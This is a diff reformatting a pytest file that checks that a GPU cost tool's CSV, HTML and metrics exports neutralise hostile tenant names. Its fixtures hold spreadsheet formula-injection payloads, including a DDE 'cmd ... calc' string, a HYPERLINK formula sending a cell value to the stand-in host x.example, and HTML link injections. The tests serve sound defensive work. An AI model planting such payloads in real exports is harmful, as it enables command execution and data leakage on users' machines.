@@ -6,6 +6,7 @@ and a node id from a sample. Each test sends names built to do harm where they l
 message, a spreadsheet formula, Plotly's pseudo-HTML) and checks what comes out against an independent
 read of the Parquet.
 """
+
 from __future__ import annotations
 
 import csv
@@ -37,11 +38,13 @@ from tests.support.cli import gpucost
 
 #: (team, env, app) for each of the simulator's five tenants: formulas as OWASP lists them, a quote already
 #: in front, a negative number, a NUL and a carriage return, and Plotly's pseudo-HTML
-TENANTS = [("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"),
-           ("-2+3 &lt;i&gt;", "\t=1+1", "'=already quoted"),
-           ("-12.5", "\r=HYPERLINK(\"//x.example/?\"&A1)", "nul\x00app"),
-           ('<a href="//x.example/">ads</a>', "<b>x</b>", "<i>i</i><br><sub>s</sub>"),
-           ("<b>x</b>", "=1+1\x00", "@x")]
+TENANTS = [
+    ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"),
+    ("-2+3 &lt;i&gt;", "\t=1+1", "'=already quoted"),
+    ("-12.5", '\r=HYPERLINK("//x.example/?"&A1)', "nul\x00app"),
+    ('<a href="//x.example/">ads</a>', "<b>x</b>", "<i>i</i><br><sub>s</sub>"),
+    ("<b>x</b>", "=1+1\x00", "@x"),
+]
 MODEL = '=HYPERLINK("https://x.example/?"&A1,"H100")'
 NODES = ['<a href="https://x">ads</a>', "+node\x00\x07", "@node"]
 SPEC = FleetSpec(gpus=3, gpus_per_node=1, hours=3, interval_s=60, seed=5, late_binding_fraction=0.5)
@@ -136,22 +139,29 @@ def test_focus_csv_cells_reach_a_spreadsheet_as_text(replayed: Path, horizon: Au
     """Today's CSV held 7,917 formula cells and 2,639 NUL bytes for a month of hostile names; the Parquet must
     stay byte-exact."""
     gpucost("export", "focus", str(tmp_path / "f.csv"), "--out", str(replayed), "--month", MONTH)
-    gpucost("export", "focus", str(tmp_path / "f.parquet"), "--out", str(replayed), "--month", MONTH,
-            "--format", "parquet")
+    gpucost(
+        "export", "focus", str(tmp_path / "f.parquet"), "--out", str(replayed), "--month", MONTH, "--format", "parquet"
+    )
     raw, rows = read_csv(tmp_path / "f.csv")
     stored = records(replayed)
     prefixed = sum(c.startswith("'") for row in rows for c in row.values())
-    HOSTILE_LINES.append(f"{'hostile names, FOCUS CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} rows | "
-                         f"cells prefixed ' {prefixed:,}, formulas left {len(formulas(rows)):,}, NUL bytes "
-                         f"{raw.count(0):,}")
+    HOSTILE_LINES.append(
+        f"{'hostile names, FOCUS CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} rows | "
+        f"cells prefixed ' {prefixed:,}, formulas left {len(formulas(rows)):,}, NUL bytes "
+        f"{raw.count(0):,}"
+    )
     assert raw.count(0) == 0 and formulas(rows) == []
     assert unquoted(raw, rows, ("SubAccountId", "SkuId", "ResourceName", "x_TenantKey", "Tags")) == []
     assert prefixed and {r["x_RecordId"] for r in rows} == set(stored)  # the case is made; every record, once
     for row in rows:
         record = stored[row["x_RecordId"]]
         resource = f"{record['node_id']}/{record['gpu_uuid']}"
-        for column, name in (("SubAccountId", record["team"]), ("x_TenantKey", record["tenant_key"]),
-                             ("SkuId", record["gpu_model"]), ("ResourceName", resource)):
+        for column, name in (
+            ("SubAccountId", record["team"]),
+            ("x_TenantKey", record["tenant_key"]),
+            ("SkuId", record["gpu_model"]),
+            ("ResourceName", resource),
+        ):
             assert unprefixed(row[column]) == as_shown(name), (column, row[column])
         assert json.loads(row["Tags"])["app"] == record["app"]  # JSON writes a NUL as \u0000: exact
         assert Decimal(row["BilledCost"]) * 10**6 == record["cost_micro_usd"]  # numbers as numbers, negative too
@@ -163,14 +173,17 @@ def test_focus_csv_cells_reach_a_spreadsheet_as_text(replayed: Path, horizon: Au
 
 def test_query_and_whatif_csv_cells_reach_a_spreadsheet_as_text(replayed: Path, horizon: AuditSettings) -> None:
     """``gpucost query --format csv`` wrote names as they were: formulas, NUL bytes."""
-    sql = ("SELECT record_id, team, env, app, gpu_model, node_id, cost_micro_usd, -1 - cost_micro_usd AS negated "
-           "FROM cost")
+    sql = (
+        "SELECT record_id, team, env, app, gpu_model, node_id, cost_micro_usd, -1 - cost_micro_usd AS negated FROM cost"
+    )
     raw, rows = read_csv(stdout("query", "--out", str(replayed), sql, "--format", "csv"))
     what_raw, what = read_csv(stdout("whatif", "--out", str(replayed), "--format", "csv"))
     stored = records(replayed)
-    HOSTILE_LINES.append(f"{'hostile names, query/whatif CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} "
-                         f"rows | formulas left {len(formulas(rows + what)):,}, NUL bytes "
-                         f"{raw.count(0) + what_raw.count(0):,}")
+    HOSTILE_LINES.append(
+        f"{'hostile names, query/whatif CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} "
+        f"rows | formulas left {len(formulas(rows + what)):,}, NUL bytes "
+        f"{raw.count(0) + what_raw.count(0):,}"
+    )
     assert raw.count(0) == what_raw.count(0) == 0 and formulas(rows) == formulas(what) == []
     assert {r["record_id"] for r in rows} == set(stored)
     assert unquoted(raw, rows, ("team", "env", "app", "gpu_model", "node_id")) == []
@@ -225,9 +238,11 @@ def test_report_shows_names_as_text(replayed: Path, horizon: AuditSettings) -> N
     marked = [s for s in shown if "<" in s]  # pseudo-HTML needs a '<'; no title or template of ours has one
     tags = _Tags()
     tags.feed(page)
-    HOSTILE_LINES.append(f"{'hostile names, HTML report ' + horizon_label(horizon):<44} sent {len(TENANTS):>6,} "
-                         f"tenants | figure strings with '<' {len(marked):,}, tags from names "
-                         f"{sum(t in ('a', 'b', 'i', 'sub') for t in tags.tags):,}")
+    HOSTILE_LINES.append(
+        f"{'hostile names, HTML report ' + horizon_label(horizon):<44} sent {len(TENANTS):>6,} "
+        f"tenants | figure strings with '<' {len(marked):,}, tags from names "
+        f"{sum(t in ('a', 'b', 'i', 'sub') for t in tags.tags):,}"
+    )
     assert len(figures(page)) + page.count('<p class="empty">') == 9 and marked == []  # a section with no data: a line
     assert any('&lt;a href="//x.example/"&gt;ads&lt;/a&gt;' in s for s in shown)  # the case is made, escaped
     assert any('&lt;a href="https://x"&gt;ads&lt;/a&gt;/' in s for s in shown)  # the node, in the MAE hover text
@@ -241,7 +256,8 @@ def test_report_in_a_browser_holds_no_link_from_a_name(replayed: Path, browser) 
     browser.get((replayed / "report.html").as_uri())
     links = browser.execute_script(
         "return Array.from(document.querySelectorAll('a')).map(a => a.getAttribute('href') || "
-        "a.getAttribute('xlink:href') || '').filter(h => h.includes('x.example') || h.startsWith('https://x'))")
+        "a.getAttribute('xlink:href') || '').filter(h => h.includes('x.example') || h.startsWith('https://x'))"
+    )
     bold = browser.execute_script("return document.querySelectorAll('.legendtext tspan[style*=\"bold\"]').length")
     assert links == [] and bold == 0
 
@@ -254,12 +270,29 @@ def hostile_tables(rnd: random.Random) -> dict[str, pa.Table]:
     as a sink reads them back from topics anyone may write."""
     names = [f"=cmd|'{i}'!A0<a href=\"https://x/{i}\">" for i in range(N)]
     costs = [rnd.choice([-1, 1]) * rnd.randrange(1, 10**6) for _ in range(N)]
-    cost = pa.table({"team": names + ["idle"] * N, "env": names * 2, "app": names * 2, "sla": ["Gold"] * 2 * N,
-                     "gpu_model": [f"model-{n}" for n in names] * 2, "node_id": [f"node-{n}" for n in names] * 2,
-                     "cost_micro_usd": pa.array(costs + [abs(c) for c in costs], pa.int64())})
-    return {"cost": cost, "reclaim": pa.table({"sla": [f"@{n}" for n in names], "team": names}),
-            "health": pa.table({"gpu_uuid": [f"GPU-{i}" for i in range(N)], "window_end_ns": list(range(N)),
-                                "grade": [f"<b>{n}</b>" for n in names], "breaker_state": ["removed"] * N})}
+    cost = pa.table(
+        {
+            "team": names + ["idle"] * N,
+            "env": names * 2,
+            "app": names * 2,
+            "sla": ["Gold"] * 2 * N,
+            "gpu_model": [f"model-{n}" for n in names] * 2,
+            "node_id": [f"node-{n}" for n in names] * 2,
+            "cost_micro_usd": pa.array(costs + [abs(c) for c in costs], pa.int64()),
+        }
+    )
+    return {
+        "cost": cost,
+        "reclaim": pa.table({"sla": [f"@{n}" for n in names], "team": names}),
+        "health": pa.table(
+            {
+                "gpu_uuid": [f"GPU-{i}" for i in range(N)],
+                "window_end_ns": list(range(N)),
+                "grade": [f"<b>{n}</b>" for n in names],
+                "breaker_state": ["removed"] * N,
+            }
+        ),
+    }
 
 
 def test_metric_series_stay_within_the_cap_whatever_the_names() -> None:
@@ -276,33 +309,60 @@ def test_metric_series_stay_within_the_cap_whatever_the_names() -> None:
     registry = CollectorRegistry(auto_describe=False)
     registry.register(type("Scrape", (), {"collect": lambda self: metrics.metrics()})())  # type: ignore[arg-type]
     text = generate_latest(registry).decode()
-    series = {f.name: {tuple(sorted(s.labels.items())): s.value for s in f.samples}
-              for f in text_string_to_metric_families(text)}
+    series = {
+        f.name: {tuple(sorted(s.labels.items())): s.value for s in f.samples}
+        for f in text_string_to_metric_families(text)
+    }
     folded = {dict(k).get("family"): v for k, v in series.pop("gpucost_cost_series_folded").items()}
-    HOSTILE_LINES.append(f"{f'{N:,} hostile names, models, nodes, grades':<44} sent {4 * N:>6,} rows | series "
-                         f"{sum(map(len, series.values())):,} (cap {cap} per family), folded "
-                         f"{sum(folded.values()):,.0f}, {len(text) / 1024:,.0f} KiB scraped, "
-                         f"{kept / 2**20:.1f} MiB kept")
+    HOSTILE_LINES.append(
+        f"{f'{N:,} hostile names, models, nodes, grades':<44} sent {4 * N:>6,} rows | series "
+        f"{sum(map(len, series.values())):,} (cap {cap} per family), folded "
+        f"{sum(folded.values()):,.0f}, {len(text) / 1024:,.0f} KiB scraped, "
+        f"{kept / 2**20:.1f} MiB kept"
+    )
     assert series and all(0 < len(s) <= cap for s in series.values()), {n: len(s) for n, s in series.items()}
     cost = tables["cost"].to_pydict()
-    want = {"gpucost_cost_micro_usd": sum(c for c in cost["cost_micro_usd"] if c > 0),
-            "gpucost_cost_credit_micro_usd": -sum(c for c in cost["cost_micro_usd"] if c < 0),
-            "gpucost_idle_cost_micro_usd": sum(c for t, c in zip(cost["team"], cost["cost_micro_usd"]) if t == "idle"),
-            "gpucost_reclaim_triggers": N, "gpucost_gpus": N}
+    want = {
+        "gpucost_cost_micro_usd": sum(c for c in cost["cost_micro_usd"] if c > 0),
+        "gpucost_cost_credit_micro_usd": -sum(c for c in cost["cost_micro_usd"] if c < 0),
+        "gpucost_idle_cost_micro_usd": sum(c for t, c in zip(cost["team"], cost["cost_micro_usd"]) if t == "idle"),
+        "gpucost_reclaim_triggers": N,
+        "gpucost_gpus": N,
+    }
     assert {name: sum(s.values()) for name, s in series.items()} == want  # folded, nothing lost
-    distinct = {"gpucost_cost_micro_usd_total": sum(c > 0 for c in cost["cost_micro_usd"]),
-                "gpucost_cost_credit_micro_usd_total": sum(c < 0 for c in cost["cost_micro_usd"]),
-                "gpucost_idle_cost_micro_usd_total": N, "gpucost_reclaim_triggers_total": N, "gpucost_gpus": N}
+    distinct = {
+        "gpucost_cost_micro_usd_total": sum(c > 0 for c in cost["cost_micro_usd"]),
+        "gpucost_cost_credit_micro_usd_total": sum(c < 0 for c in cost["cost_micro_usd"]),
+        "gpucost_idle_cost_micro_usd_total": N,
+        "gpucost_reclaim_triggers_total": N,
+        "gpucost_gpus": N,
+    }
     assert folded == {name: n - (cap - 1) for name, n in distinct.items()}  # all but cap - 1 kept, counted
     assert kept < 16 * 2**20  # the GPUs' latest records (20,000 GPUs), not the names' series
 
 
 def test_a_cap_with_no_room_for_its_other_series_is_refused(tmp_path: Path) -> None:
     """``--cost-series 0`` was taken, and the cap could not hold (the ``_other`` series is one of them)."""
-    proc = gpucost("run", "--source", "simulate", "--gpus", "1", "--hours", "0.05", "--duration-s", "1", "--out",
-                   str(tmp_path / "o"), "--metrics-address", "127.0.0.1:0", "--cost-series", "0", check=False)
-    HOSTILE_LINES.append(f"{'--cost-series 0':<44} sent {1:>6,} | exit {proc.returncode}: "
-                         f"{proc.stderr.strip().splitlines()[-1][:60] if proc.stderr.strip() else ''}")
+    proc = gpucost(
+        "run",
+        "--source",
+        "simulate",
+        "--gpus",
+        "1",
+        "--hours",
+        "0.05",
+        "--duration-s",
+        "1",
+        "--out",
+        str(tmp_path / "o"),
+        "--metrics-address",
+        "127.0.0.1:0",
+        "--cost-series",
+        "0",
+        check=False,
+    )
+    HOSTILE_LINES.append(
+        f"{'--cost-series 0':<44} sent {1:>6,} | exit {proc.returncode}: "
+        f"{proc.stderr.strip().splitlines()[-1][:60] if proc.stderr.strip() else ''}"
+    )
     assert proc.returncode == 2 and "--cost-series" in proc.stderr and "Traceback" not in proc.stderr
-
-
